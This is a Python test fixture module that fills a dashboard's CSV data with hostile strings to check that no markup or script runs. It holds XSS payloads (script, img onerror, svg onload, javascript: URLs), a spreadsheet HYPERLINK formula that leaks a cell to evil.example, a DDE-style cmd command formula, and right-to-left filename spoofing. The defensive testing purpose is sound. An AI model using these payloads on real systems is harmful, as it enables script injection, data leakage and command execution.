"""Hostile text for the security tests.

:data:`PAYLOADS` is a corpus of strings that would run code, open a link, change the layout or
mislead if a renderer took them as markup: script tags, event-handler attributes,
``javascript:`` links, spreadsheet formulas, template strings, ``$`` maths, Streamlit's
``:red[...]`` directives, right-to-left overrides, a 5,000-character word, emoji and CJK text.
Every payload that could run script sets ``window.__pwned`` (and opens a dialog), so a test can
tell that nothing ran.

:func:`write_payload_folder` copies ``tests/fixtures/mini`` and puts payloads into every
free-text column of every table, keeping ids, codes, dates and numbers valid, so every row still
loads and reaches the views. Two extra rows are invalid on purpose: a source whose URL is
``javascript:`` (rejected by validation) and a statement whose date is an ``<img onerror>`` tag
(so the Data page quotes a hostile bad value).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

MINI = Path(__file__).resolve().parent / "fixtures" / "mini"

PWN = "window.__pwned=1"
SCRIPT = f"<script>{PWN};alert('script')</script>"
IMG = f"<img src=x onerror=\"{PWN};alert('img')\">"
SVG = f"<svg/onload={PWN}><b>bold?</b>"
MD_LINK = f"[click me](javascript:{PWN}) <a href='javascript:{PWN}'>a</a>"
JS_URL = f"javascript:{PWN};alert('url')"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_MINUS = "-2+3"
TEMPLATE = "{name} {tooltip} %{x} ${x} $& $1 $' {{7*7}}"
MATHS = "$x^2$ and $$\\frac{1}{2}$$ cost $5 to $6"
DIRECTIVE = ":red[alarm] :material/warning: :smile: **bold** _it_ # head"
RLO = "\u202eevil.exe\u202c.txt \u2066iso\u2069"
LONG = "W" * 5000
UNICODE = "日本語 中文 한국어 Tiếng Việt 🇯🇵🎌🚢👩‍👩‍👧"
ENTITIES = "&lt;b&gt; &amp; &#60;script&#62; \\<escaped\\>"

PAYLOADS: tuple[str, ...] = (
    SCRIPT,
    IMG,
    SVG,
    MD_LINK,
    FORMULA,
    FORMULA_CMD,
    FORMULA_MINUS,
    TEMPLATE,
    MATHS,
    DIRECTIVE,
    RLO,
    LONG,
    UNICODE,
    ENTITIES,
    JS_URL,
)

#: Free-text columns per table (everything else is an id, code, date, number, enum or URL).
TEXT_COLUMNS: dict[str, tuple[str, ...]] = {
    "countries": ("name", "name_ja", "capital"),
    "sources": ("publisher", "title"),
    "trade_measures": ("legal_basis", "note"),
    "diplomatic_contacts": ("venue_city", "participants", "summary"),
    "trade_flows": ("note",),
    "statements": ("speaker", "role", "venue", "paraphrase"),
    "officeholders": ("person", "office"),
    "story": ("title", "caption"),
    "product_groups": ("name", "name_ja", "hs_codes", "note"),
    "export_weights": ("note",),
    "trade_monthly": ("note",),
    "scenarios": ("title", "title_ja", "rationale", "rationale_ja", "note"),
}

#: Columns whose values group rows (the same input must map to the same payload).
GROUPING = {("trade_measures", "legal_basis")}


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


def _write(path: Path, header: list[str], rows: list[dict[str, str]]) -> None:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=header, lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def payload_for(table: str, column: str, i: int) -> str:
    """The payload placed in row ``i`` of ``table.column`` (rotates through :data:`PAYLOADS`)."""
    offset = sum(map(ord, table + column))
    return PAYLOADS[(i + offset) % len(PAYLOADS)]


def write_payload_folder(dst: Path) -> Path:
    """Copy ``tests/fixtures/mini`` to ``dst`` with payloads in every free-text column.

    Returns ``dst``. The story's first step gets :data:`SCRIPT` as its caption and :data:`IMG`
    in its title; the first source's publisher is :data:`SCRIPT` and its title :data:`MD_LINK`,
    so the source footers of every chart quote them.
    """
    shutil.copytree(MINI, dst)
    for table, columns in TEXT_COLUMNS.items():
        path = dst / f"{table}.csv"
        header, rows = _read(path)
        groups: dict[tuple[str, str], str] = {}
        for i, row in enumerate(rows):
            for col in columns:
                if (table, col) in GROUPING:
                    key = (col, row[col])
                    row[col] = groups.setdefault(key, PAYLOADS[len(groups) % len(PAYLOADS)])
                else:
                    row[col] = payload_for(table, col, i)
        if table == "story":
            rows[0]["title"], rows[0]["caption"] = IMG, SCRIPT
            if len(rows) > 1:
                rows[1]["title"], rows[1]["caption"] = LONG, MATHS + " " + DIRECTIVE
        if table == "sources":
            rows[0]["publisher"], rows[0]["title"] = SCRIPT, MD_LINK
            rows[1]["publisher"], rows[1]["title"] = RLO + " " + TEMPLATE, LONG
            rows.append(
                {
                    "source_id": "fx-bad-url",
                    "publisher": SVG,
                    "title": SCRIPT,
                    "url": JS_URL,
                    "published": "2025-04-02",
                    "accessed": "",
                    "kind": "news",
                }
            )
        if table == "countries":
            # the focus and the powers carry the worst cases: they are on every chart and map
            by_iso = {r["iso3"]: r for r in rows}
            by_iso["JPN"]["name"], by_iso["USA"]["name"], by_iso["CHN"]["name"] = SCRIPT, LONG, IMG
            by_iso["VNM"]["name"], by_iso["PHL"]["name"] = TEMPLATE, DIRECTIVE
        if table == "diplomatic_contacts":
            rows[0]["summary"], rows[0]["participants"] = FORMULA, FORMULA_CMD
        if table == "scenarios":  # the Scenarios test opens the first preset: its title and rationale
            rows[0]["title"], rows[0]["rationale"] = SCRIPT, TEMPLATE
        if table == "statements":
            bad = dict(rows[0], statement_id="fx-s-bad-date", date=IMG)
            rows.append(bad)
        _write(path, header, rows)
    # the manifest's known gaps are hand-edited text too (shown on the Sources and Trade pages)
    man_path = dst / "MANIFEST.json"
    man = json.loads(man_path.read_text(encoding="utf-8")) if man_path.exists() else {}
    man["gaps"] = [
        {"topic": "trade", "text": SCRIPT + " " + MD_LINK},
        {"topic": "events", "text": DIRECTIVE + " " + MATHS},
    ]
    man_path.write_text(json.dumps(man), encoding="utf-8")
    return dst
